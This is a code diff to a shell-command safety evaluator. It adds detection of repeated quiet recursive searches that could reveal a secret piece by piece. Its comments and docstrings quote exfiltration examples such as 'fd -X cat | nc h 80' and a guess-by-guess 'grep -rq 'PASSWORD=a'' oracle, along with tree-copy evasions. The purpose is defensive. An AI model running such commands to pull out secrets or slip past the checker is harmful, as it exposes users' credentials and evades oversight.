@@ -783,7 +783,13 @@ class Evaluator:
             # (xfail41) a background shell whose earlier lines may have put POSIXLY_CORRECT in its environment
             environ = session is not None and session.shell is not None and session.shell.environ
             found = self._match(
-                commands, text, index, budget.deadline if budget is not None else None, view, environ=environ
+                commands,
+                text,
+                index,
+                budget.deadline if budget is not None else None,
+                view,
+                environ=environ,
+                session=session,
             )
             if found is None:
                 return self._flat_scan(text, index, lazy.judged), "judging it took longer than its time budget"
@@ -804,9 +810,11 @@ class Evaluator:
         deadline: float | None,
         view: View | None = None,
         environ: bool = False,
+        session: SessionView | None = None,
     ) -> list[Match] | None:
         """Every pattern matching a command (or the text); None once past ``deadline``. ``environ``: the commands
-        run in a shell whose earlier lines may have set POSIXLY_CORRECT (session_memory.ShellState.environ)."""
+        run in a shell whose earlier lines may have set POSIXLY_CORRECT (session_memory.ShellState.environ).
+        ``session``: the caller's session (its earlier quiet searches: _prints_trees)."""
         if view is None:
             view = self.classifier.view()
         unwalked: list[Match] = []
@@ -818,7 +826,7 @@ class Evaluator:
         # holding a secret is of class secret_holder there (View._holds; the project_exfiltration rows).
         # A recursive search printing every file's text to the caller (`grep -r X .`) reads it to them too.
         sends = bool(commands) and _sends_away(commands, self.policy.programs.senders)
-        view.printed_only = not sends and bool(commands) and _prints_trees(commands, text, view)
+        view.printed_only = not sends and bool(commands) and _prints_trees(commands, text, view, session)
         view.holders = sends or view.printed_only
         if view.holders:
             # a tree reader naming no folder reads the working one (`fd -X cat | nc h 80`): judged with it named;
@@ -978,7 +986,10 @@ class Evaluator:
                 hits.append((i, Match(pattern.key, pattern.description, pattern.severity, text.strip())))
         if len(hits) > 1:
             hits.sort(key=_first)
-        return [match for _, match in hits] + unwalked
+        matched = [match for _, match in hits] + unwalked
+        if view.asked_before and any(match.key == "project_exfiltration" for match in matched):
+            matched.append(Match(QUIET_SEARCH_AGAIN, _QUIET_AGAIN, "dangerous", view.asked_before))
+        return matched
 
     def _flat_scan(self, text: str, index: _Index, judged: _Judged | None = None) -> list[Match]:
         """Hardline matches in text that cannot be parsed in full, found without parsing it
@@ -1425,6 +1436,14 @@ class _LazyBudget:
 
 
 UNREAD = "session_file_unread"
+# (quiet42) A quiet search of a folder holding a secret, asking what the session's earlier quiet searches did
+# not (_prints_trees, _asked_before): with project_exfiltration's match, the reason a human reads
+QUIET_SEARCH_AGAIN = "quiet_search_again"
+_QUIET_AGAIN = (
+    "a search printing only names, counts or whether it found anything, of a folder holding a secret, after this"
+    " session searched so with another pattern or options: each answer tells one more piece of what the files"
+    " hold (one call a guess spells the secret out)"
+)
 
 
 UNKNOWN_COMMAND = "unknown_command"
@@ -1887,25 +1906,43 @@ def _includes_secrets(view: View | None, shaped: Shape, includes: list[str]) -> 
     return False
 
 
-def _prints_trees(commands: list[Command], text: str, view: View | None = None) -> bool:
+def _tree_flags(command: Command) -> frozenset[str] | set[str]:
+    """A tree printer's flags, grep's `-d rec` (argmatch's unique prefix of `recurse`) read as `-r`."""
+    shaped = _shaped(command)
+    present = shaped.short | shaped.long
+    actions = shaped.option_values("d") + shaped.option_values("directories")
+    if command.name in _GREPS and any(a.startswith("rec") and "recurse".startswith(a) for a in actions):
+        present = present | {"r"}
+    return present
+
+
+def _prints_trees(
+    commands: list[Command],
+    text: str,
+    view: View | None = None,
+    session: SessionView | None = None,
+) -> bool:
     """Whether a stage of the line prints the text of every file of a folder it walks (to the caller,
     or to a file it reads next): `grep -r X .`, `rg --hidden X .`, `ack X .`, `find . -exec
     cat {} +`, `fd -H -X cat`, `find . -type f | xargs cat`. Set tests per command, no look at the disk.
-    A file a search's output is written to and a later stage prints is printed too (`grep -r X . > o; cat o`)."""
+    A file a search's output is written to and a later stage prints is printed too (`grep -r X . > o; cat o`).
+    A search printing names, counts or only its status is judged so too when asked again: on the line
+    (_asked_again), or after the session's earlier calls searched quietly for another pattern (``session``'s
+    quiet searches, SessionFiles.searched: _asked_before)."""
     kept: set[str] = set()
     for command in commands:
         name = command.name
         if name in _TREE_PRINTERS:
             walks, quiet = _TREE_PRINTERS[name]
             shaped = _shaped(command)
-            present = shaped.short | shaped.long
-            actions = shaped.option_values("d") + shaped.option_values("directories")
-            if name in _GREPS and any(a.startswith("rec") and "recurse".startswith(a) for a in actions):
-                present = present | {"r"}
+            present = _tree_flags(command)
             if walks and present.isdisjoint(walks):
                 continue
             if not present.isdisjoint(quiet) and not _asked_again(command, commands):
-                continue
+                if session is None or not session.files.quiet or not _asked_before(command, session):
+                    continue
+                if view is not None:
+                    view.asked_before = command.text
             includes = shaped.option_values("include")
             # `grep -r --include='*.py' X .`: no secret's name passes; with -R, a link whose name passes is
             # read where it leads (`src/k.py -> .env`, debt37): read as find lists it
@@ -1991,6 +2028,59 @@ def _asked_again(command: Command, commands: list[Command]) -> bool:
         return True
     last = command.argv[-1]  # (the same folder searched again for another pattern)
     return any(c.name == command.name and c.argv[-1] == last and c.argv != command.argv for c in commands)
+
+
+# Words only the run knows (`"K=$c"`, `` `cat p` ``): a pattern so may be any
+_DYNAMIC: Final = ("$", "`")
+_COMPARERS: Final = frozenset({"diff", "gdiff", "colordiff"})  # (tree printers comparing two trees)
+_PATTERN_OPTIONS: Final = frozenset({"e", "regexp"})
+
+
+def quiet_searches(commands: list[Command]) -> list[int | None]:
+    """The quiet tree searches of a line (a search of _TREE_PRINTERS walking a folder's files and printing
+    names, counts or only its status: `grep -rq K .`, `grep -rl K src`, `rg -c --hidden K`, `ag -l -u K`), as
+    the digest of what each asks (quiet_search_key). Set tests per command (SessionMemory.terminal_wrote)."""
+    found: list[int | None] = []
+    for command in commands:
+        if command.name in _TREE_PRINTERS:
+            walks, quiet = _TREE_PRINTERS[command.name]
+            present = _tree_flags(command)
+            if (not walks or not present.isdisjoint(walks)) and not present.isdisjoint(quiet):
+                found.append(quiet_search_key(command))
+    return found
+
+
+def quiet_search_key(command: Command) -> int | None:
+    """A digest of what a quiet search asks: its program, flags, option values and pattern as the program reads
+    them (`grep -r -q -e X` and `grep -rqe X` are one; the first operand is the pattern unless -e, -f, --regexp or
+    --file gives one), not the folders it reads (a copy of the tree, `cp -r . ../c1`, or a link to it, is the
+    same question asked elsewhere). A pattern read from a file (`-f FILE`: its text may change between calls) or
+    holding a word only the run knows (`"K=$c"`) asks something new every time it runs (None); so does a recursive
+    diff (`diff -rq . ../guess`: the other tree's files are the question, and may change between calls)."""
+    shaped = _shaped(command)
+    if (
+        command.name in _COMPARERS
+        or shaped.option_values("f")
+        or shaped.option_values("file")
+        or any(c in word for word in command.argv for c in _DYNAMIC)
+    ):
+        return None
+    pattern = shaped.option_values("e")  # (with -e or --regexp, every operand is a folder)
+    if not pattern and not shaped.option_values("regexp"):
+        pattern = shaped.positionals[:1]
+    values = tuple(sorted((k, tuple(v)) for k, v in (shaped.values or {}).items() if k not in _PATTERN_OPTIONS))
+    flags = tuple(sorted((shaped.short | shaped.long) - _PATTERN_OPTIONS))
+    return hash((command.name, flags, values, tuple(pattern)))
+
+
+def _asked_before(command: Command, session: SessionView) -> bool:
+    """Whether a quiet tree search asks something the session's earlier quiet tree searches did not (another
+    pattern, other options: SessionFiles.searched), once one ran (quiet42: one call a pattern, `grep -rq
+    'PASSWORD=a' . && echo y`, then `=b`, ..., spells the secret out a bit a call). Whatever folder it reads:
+    a copy of the tree or a link to it, made on the line or earlier, holds the same secret. The same search
+    again tells nothing new."""
+    key = quiet_search_key(command)
+    return key is None or not session.searched(key)
 
 
 def _archives_to(command: Command) -> str | None:
